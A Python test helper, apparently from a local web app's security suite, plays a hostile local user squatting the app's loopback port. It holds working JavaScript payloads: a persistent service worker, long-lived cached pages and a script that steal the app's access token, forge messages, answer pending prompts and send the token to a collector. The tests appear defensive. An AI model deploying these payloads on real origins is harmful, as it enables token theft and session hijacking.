"""Another local user squatting the page's address: run as ``nobody`` (its source is
passed with ``python3 -c``, so it needs nothing of this checkout but the system Python).

``python3 -c SOURCE [--worker-only] HOST:PORT [HOST:PORT ...]`` listens on each address
given and
serves whatever a browser asks there, as a hostile user would while no run is up:

- every page is one that registers a service worker for the whole origin, loads
  ``/page.js`` and watches the origin's storage from its tab, then reports what it saw;
  served from the cache where a run's page should be, it reads the token from the
  fragment, sends an inbox line and answers the question waiting;
- ``/sw.js``, that service worker: it passes every request on to the network, so the
  real page still loads, and reports each request's URL and ``X-Flower-Token``; with a
  token it sends an inbox line and answers the question waiting;
- ``/page.js``: a script that reads the token wherever it may be (the fragment, the
  origin's storage), reports it, and uses it the same way;

every response cacheable for a year (``immutable``), so it would run again from the
browser's cache. ``--worker-only`` leaves the service worker alone: nothing cached, no
``/page.js`` (what the real page does about a worker it finds, on its own).

Everything seen goes to a collector on a loopback port of its own, which lives as long
as the process: one JSON line per report on stdout. The first line
says where the collector listens and which addresses it took (an address a run holds
cannot be taken: ``cannot``); a line ``release`` on stdin closes the squatted
addresses (the next run may then take them), end of input ends the process.
"""

import json
import socket
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

#: What a squatter writes into the run when it gets a token.
SQUATTED = "SQUATTED-LINE"
CACHE = "public, max-age=31536000, immutable"

PAGE = """<!doctype html><meta charset="utf-8"><title>flower</title>
<script>window.SQUATTER = true;</script>
<script>
const C = "COLLECTOR";
const tell = (what, data) => fetch(C, {method: "POST", mode: "no-cors",
  body: JSON.stringify({what, data, at: location.href})}).catch(() => {});
tell("page", {hash: location.hash, local: Object.assign({}, localStorage),
              session: Object.assign({}, sessionStorage)});
// Served from the cache where the next run's page should be: the fragment has its token.
const found = /token=([^&]+)/.exec(location.hash);
if (found) {
  const h = {"X-Flower-Token": decodeURIComponent(found[1]), "Content-Type": "application/json"};
  fetch("/inbox", {method: "POST", headers: h,
                   body: JSON.stringify({text: "SQUATTED-LINE cached page"})});
  fetch("/state", {headers: h}).then((r) => r.json()).then((s) => (s.pending || []).forEach((p) =>
    fetch("/answer", {method: "POST", headers: h,
      body: JSON.stringify({id: p.id, answer: (p.options || ["x"]).slice(-1)[0]})})));
}
navigator.serviceWorker.register("/sw.js", {scope: "/"})
  .then(() => navigator.serviceWorker.ready).then(() => tell("sw-ready", {}))
  .catch((e) => tell("sw-failed", {error: String(e)}));
// The tab stays open and watches what the next run's page leaves in this origin.
let last = "";
setInterval(() => {
  const now = JSON.stringify([Object.assign({}, localStorage), Object.assign({}, sessionStorage)]);
  if (now !== last) { last = now; tell("storage", {now}); }
}, 300);
const bc = new BroadcastChannel("flower");
bc.onmessage = (m) => tell("broadcast", {data: String(m.data)});
</script>
<script src="/page.js"></script>
"""

# In the real page (from the cache) the page's CSP lets it talk only to its own origin:
# it uses the token there, then carries it out by navigating to the collector.
SCRIPT = """(() => {
  if (window.SQUATTER) return;
  const C = "COLLECTOR";
  const found = /token=([^&]+)/.exec(location.hash);
  const token = (found && decodeURIComponent(found[1])) || localStorage.getItem("flower-token")
                || sessionStorage.getItem("flower-token") || "";
  const h = {"X-Flower-Token": token, "Content-Type": "application/json"};
  fetch("/inbox", {method: "POST", headers: h,
                   body: JSON.stringify({text: "SQUATTED-LINE page.js"})})
  .then(() => fetch("/state", {headers: h})).then((r) => r.json()).then((s) => Promise.all(
    (s.pending || []).map((p) => fetch("/answer", {method: "POST", headers: h,
      body: JSON.stringify({id: p.id, answer: (p.options || ["x"]).slice(-1)[0]})}))))
  .finally(() => { location.href = C + "?what=page-js&token=" + encodeURIComponent(token); });
})();
"""

WORKER = """const C = "COLLECTOR";
const tell = (what, data) => fetch(C, {method: "POST", mode: "no-cors",
  body: JSON.stringify({what, data})}).catch(() => {});
self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", (e) => e.waitUntil(self.clients.claim()));
let used = false;
self.addEventListener("fetch", (e) => {
  const r = e.request, token = r.headers.get("x-flower-token");
  tell("sw-fetch", {url: r.url, token, mode: r.mode});
  if (token && !used) {
    used = true;
    const h = {"X-Flower-Token": token, "Content-Type": "application/json"};
    fetch("/inbox", {method: "POST", headers: h,
                     body: JSON.stringify({text: "SQUATTED-LINE service worker"})});
    fetch("/state", {headers: h}).then((s) => s.json()).then((s) => (s.pending || []).forEach((p) =>
      fetch("/answer", {method: "POST", headers: h,
        body: JSON.stringify({id: p.id, answer: (p.options || ["x"]).slice(-1)[0]})})));
  }
  e.respondWith(fetch(r));
});
"""

lock = threading.Lock()


def say(what, **data):
    with lock:
        print(json.dumps({"what": what, **data}), flush=True)


class Collector(BaseHTTPRequestHandler):
    def log_message(self, *args):
        pass

    def _answer(self):
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Content-Type", "text/plain")
        self.end_headers()
        self.wfile.write(b"ok")

    def do_GET(self):
        say("report", path=self.path)
        self._answer()

    def do_POST(self):
        size = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(min(size, 100_000)).decode("utf-8", "replace")
        say("report", path=self.path, body=body)
        self._answer()


class Squat(BaseHTTPRequestHandler):
    collector = ""
    worker_only = False

    def log_message(self, *args):
        pass

    def do_GET(self):
        say(
            "squat-request",
            path=self.path,
            host=self.headers.get("Host", ""),
            token=self.headers.get("X-Flower-Token", ""),
        )
        path = self.path.split("?")[0]
        if path == "/sw.js":
            body, kind = WORKER, "text/javascript"
        elif path == "/page.js":
            body, kind = SCRIPT, "text/javascript"
        else:
            body, kind = PAGE, "text/html; charset=utf-8"
        if self.worker_only and kind.startswith("text/html"):
            body = PAGE.replace('<script src="/page.js"></script>', "")
        data = body.replace("COLLECTOR", self.collector).encode()
        self.send_response(200)
        self.send_header("Content-Type", kind)
        self.send_header("Cache-Control", "no-store" if self.worker_only else CACHE)
        self.send_header("Service-Worker-Allowed", "/")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)


class V6Server(ThreadingHTTPServer):
    address_family = socket.AF_INET6


def main():
    collector = ThreadingHTTPServer(("127.0.0.1", 0), Collector)
    Squat.collector = f"http://127.0.0.1:{collector.server_address[1]}/r"
    threading.Thread(target=collector.serve_forever, daemon=True).start()
    squats, taken = [], []
    places = sys.argv[1:]
    if places[:1] == ["--worker-only"]:
        Squat.worker_only, places = True, places[1:]
    for given in places:
        host, _, port = given.rpartition(":")
        host = host.strip("[]")
        kind = V6Server if ":" in host else ThreadingHTTPServer
        try:
            server = kind((host, int(port)), Squat)
        except OSError as exc:  # held by the run: a squatter cannot take it
            say("cannot", where=given, why=str(exc))
            continue
        threading.Thread(target=server.serve_forever, daemon=True).start()
        squats.append(server)
        taken.append(given)
    say("listening", collector=Squat.collector, squats=taken)
    for line in sys.stdin:
        if line.strip() == "release":
            for server in squats:
                server.shutdown()
                server.server_close()
            say("released")
    collector.shutdown()


if __name__ == "__main__":
    main()
